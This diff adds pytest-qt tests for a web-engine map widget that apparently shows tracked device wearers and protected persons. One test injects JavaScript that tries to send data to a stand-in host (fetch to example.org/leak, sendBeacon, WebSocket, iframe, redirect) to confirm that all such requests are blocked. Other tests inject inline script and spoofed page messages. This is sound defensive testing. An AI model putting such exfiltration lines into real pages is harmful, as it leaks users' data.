@@ -1,0 +1,185 @@
+"""The map on the real web engine: it draws what it is told, tells what is clicked, and nothing leaves the machine."""
+
+import json
+from collections.abc import Iterator
+
+import pytest
+from PySide6.QtCore import QPoint, Qt
+from PySide6.QtGui import QColor
+from pytestqt.qtbot import QtBot
+
+import map_scenes
+from backend_bridge.domain.identifiers import CaseId, DeviceId
+from backend_bridge.domain.quantities import LatLon
+from map_scenes import PROTECTED, WEARER, asked, case_row, frame, shown_map
+from widgets.map.map_view import MapView
+
+map_scenes.prepare()
+
+
+@pytest.fixture
+def view(qtbot: QtBot) -> Iterator[MapView]:
+    """A map on screen."""
+    yield shown_map(qtbot)
+
+
+def rendered(qtbot: QtBot, view: MapView, number: int) -> None:
+    """Wait until the page says that it has drawn frame `number`."""
+    qtbot.waitUntil(lambda: view.rendered_frame >= number, timeout=10_000)
+
+
+def middle(view: MapView) -> QPoint:
+    """The middle of the map on screen."""
+    return QPoint(view.width() // 2, view.height() // 2)
+
+
+def test_frame_is_pulled_drawn_and_reported(qtbot: QtBot, view: MapView) -> None:
+    """The number and instant that the page reports are those of the frame that was shown."""
+    shown = frame()
+    view.show_frame(shown)
+    rendered(qtbot, view, 1)
+    assert view.last_rendered_us == shown.at_us
+    assert asked(qtbot, view, "bongsu.state.subjects.n") == 2
+
+
+def test_busy_page_skips_to_the_newest_frame(qtbot: QtBot, view: MapView) -> None:
+    """Frames are not queued: whoever is slow sees the newest, not the backlog."""
+    for step in range(50):
+        view.show_frame(frame(at_us=map_scenes.AT_US + step * 200_000))
+    rendered(qtbot, view, 50)
+    assert asked(qtbot, view, "bongsu.state.subjects.atUs") == map_scenes.AT_US + 49 * 200_000
+
+
+def test_nothing_leaves_the_machine(qtbot: QtBot, view: MapView) -> None:
+    """Whatever the page tries, only its private scheme is asked for anything."""
+    view.show_cases((case_row(),))
+    view.go_to(LatLon(lat_deg=37.55, lon_deg=127.0), 12)
+    view.show_frame(frame())
+    rendered(qtbot, view, 1)
+    tried = """
+      const img = new Image(); img.src = 'https://tile.openstreetmap.org/1/1/1.png';
+      fetch('https://example.org/leak').catch(() => {});
+      navigator.sendBeacon('https://example.org/beacon', 'x');
+      const frame = document.createElement('iframe'); frame.src = 'https://example.org/frame'; document.body.append(frame);
+      window.open('https://example.org/popup'); location.href = 'https://example.org/away';
+      new WebSocket('wss://example.org/socket'); 1
+    """
+    asked(qtbot, view, f"try {{ {tried} }} catch (error) {{ 0 }}")
+    qtbot.wait(600)
+    assert view.life.interceptor.allowed > 20
+    assert all(not refused.startswith("app:") for refused in view.life.interceptor.refused)
+    assert view.life.page.url().toString() == "app://map/page.html"
+    assert asked(qtbot, view, "bongsu.state.subjects.n") == 2
+
+
+def test_page_has_no_storage_and_no_inline_script(qtbot: QtBot, view: MapView) -> None:
+    """Local storage is off, and text that slips into the page is never run."""
+    assert asked(qtbot, view, "(() => { try { return String(window.localStorage); } catch (e) { return 'none'; } })()") in ("none", "null")
+    asked(qtbot, view, "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s); 1")
+    assert asked(qtbot, view, "String(window.ran)") == "undefined"
+
+
+def test_click_on_a_symbol_selects_and_on_bare_ground_lets_go(qtbot: QtBot, view: MapView) -> None:
+    """Real mouse events on the real page; the symbol under the pointer is named, bare ground is None."""
+    chosen: list[DeviceId | None] = []
+    view.on_selected = chosen.append
+    view.show_cases((case_row(),))
+    view.go_to(WEARER, 16)
+    view.show_frame(frame())
+    rendered(qtbot, view, 1)
+    target = view.life.view.focusProxy()
+    qtbot.mouseClick(target, Qt.MouseButton.LeftButton, pos=middle(view))
+    qtbot.waitUntil(lambda: chosen == ["ANK-0000"], timeout=5000)
+    view.select_case(CaseId("KR-SE-0000"))
+    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.state.selected.size") == 2, timeout=5000)
+    qtbot.mouseClick(target, Qt.MouseButton.LeftButton, pos=QPoint(60, view.height() - 90))
+    qtbot.waitUntil(lambda: chosen == ["ANK-0000", None], timeout=5000)
+
+
+def test_context_menu_names_the_place(qtbot: QtBot, view: MapView) -> None:
+    """A right click tells where it was, to within a few metres."""
+    places: list[LatLon] = []
+    view.on_context = places.append
+    view.go_to(WEARER, 16)
+    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.view.zoom") == 16, timeout=5000)
+    qtbot.mouseClick(view.life.view.focusProxy(), Qt.MouseButton.RightButton, pos=middle(view))
+    qtbot.waitUntil(lambda: bool(places), timeout=5000)
+    assert abs(places[0].lat_deg - WEARER.lat_deg) < 1e-4
+    assert abs(places[0].lon_deg - WEARER.lon_deg) < 1e-4
+
+
+def test_dragging_moves_the_map(qtbot: QtBot, view: MapView) -> None:
+    """Pressing, moving and letting go shifts the middle by as many pixels."""
+    view.go_to(WEARER, 15)
+    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.view.zoom") == 15, timeout=5000)
+    before = asked(qtbot, view, "bongsu.view.left")
+    target, start = view.life.view.focusProxy(), middle(view)
+    qtbot.mousePress(target, Qt.MouseButton.LeftButton, pos=start)
+    for step in range(1, 11):
+        qtbot.mouseMove(target, start - QPoint(step * 10, 0))
+        qtbot.wait(20)
+    qtbot.wait(150)
+    qtbot.mouseRelease(target, Qt.MouseButton.LeftButton, pos=start - QPoint(100, 0))
+    after = asked(qtbot, view, "bongsu.view.left")
+    assert isinstance(before, float) and isinstance(after, float)
+    assert 80 < after - before < 120
+
+
+def test_cases_come_change_and_go(qtbot: QtBot, view: MapView) -> None:
+    """The page holds the cases that were shown last, as they were shown last."""
+    view.show_cases(tuple(case_row(n) for n in range(600)))
+    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.state.cases.all.size") == 600, timeout=10_000)
+    view.show_cases((case_row(0, zone_m=321),))
+    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.state.cases.all.size") == 1, timeout=10_000)
+    assert asked(qtbot, view, "bongsu.state.cases.all.get('KR-SE-0000').zones[0].circle[2]") == 321
+
+
+def test_selected_case_brings_both_tracks(qtbot: QtBot, view: MapView) -> None:
+    """A day of fixes of both arrives as arrays and is coloured by speed."""
+    view.show_cases((case_row(),))
+    view.show_frame(frame())
+    view.select_case(CaseId("KR-SE-0000"))
+    view.show_tracks((map_scenes.track("ANK-0000", 8640), map_scenes.track("VIC-0000", 8640)))
+    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.state.trails.tracks.map(t => t.n + '/' + t.part).join()") == "8640/0,8640/1", timeout=10_000)
+
+
+def test_alarm_is_drawn_in_the_colour_of_act(qtbot: QtBot, view: MapView) -> None:
+    """In the picture that the window shows, the red wearer stands in the middle; a normal one leaves no red there."""
+    tokens = json.loads(map_scenes.resources_text("theme/tokens.json"))
+    view.go_to(WEARER, 16)
+    view.show_frame(frame(level=[2, 0]))
+    rendered(qtbot, view, 1)
+    qtbot.waitUntil(lambda: _share(view, tokens["night"]["act"]) > 40, timeout=8000)
+    view.show_frame(frame(level=[0, 0]))
+    rendered(qtbot, view, 2)
+    qtbot.waitUntil(lambda: _share(view, tokens["night"]["act"]) == 0, timeout=8000)
+
+
+def _share(view: MapView, colour: str) -> int:
+    """How many pixels within 14 of the middle are nearly of a colour."""
+    image, wanted, centre = view.grab().toImage(), QColor(colour), middle(view)
+    near = (image.pixelColor(centre.x() + dx, centre.y() + dy) for dx in range(-14, 15) for dy in range(-14, 15))
+    return sum(abs(c.red() - wanted.red()) + abs(c.green() - wanted.green()) + abs(c.blue() - wanted.blue()) < 30 for c in near)
+
+
+@pytest.mark.parametrize(("theme", "language", "name"), [("night", "ko", "이화여대길"), ("day", "en", "Ewhayeodae-gil")])
+def test_streets_of_sinchon_are_named_in_the_language_of_the_desk(qtbot: QtBot, view: MapView, theme: str, language: str, name: str) -> None:
+    """Close in, street names stand on the map, and no two names touch."""
+    view.set_theme(theme)
+    view.set_language(language)
+    view.go_to(PROTECTED, 16.5)
+    script = "JSON.stringify(bongsu.labels.placed.map(p => p.id.split('|')[0]))"
+    qtbot.waitUntil(lambda: name in json.loads(str(asked(qtbot, view, script))), timeout=10_000)
+    boxes = json.loads(str(asked(qtbot, view, "JSON.stringify(bongsu.labels.placed.map(p => [bongsu.view.x(p.x), bongsu.view.y(p.y), p.sprite.textWidth]))")))
+    assert len(boxes) > 8
+
+
+def test_unknown_names_from_the_page_are_not_believed(qtbot: QtBot, view: MapView) -> None:
+    """A page that claims to have selected a device nobody showed it is not listened to."""
+    chosen: list[DeviceId | None] = []
+    view.on_selected = chosen.append
+    view.show_frame(frame())
+    rendered(qtbot, view, 1)
+    asked(qtbot, view, "bongsu.channel.tell('selected', {device: 'EVIL'}); bongsu.channel.tell('context', {lat: 'x', lon: 1}); bongsu.channel.tell('selected', {device: 'VIC-0000'}); 1")
+    qtbot.waitUntil(lambda: bool(chosen), timeout=5000)
+    assert chosen == ["VIC-0000"]
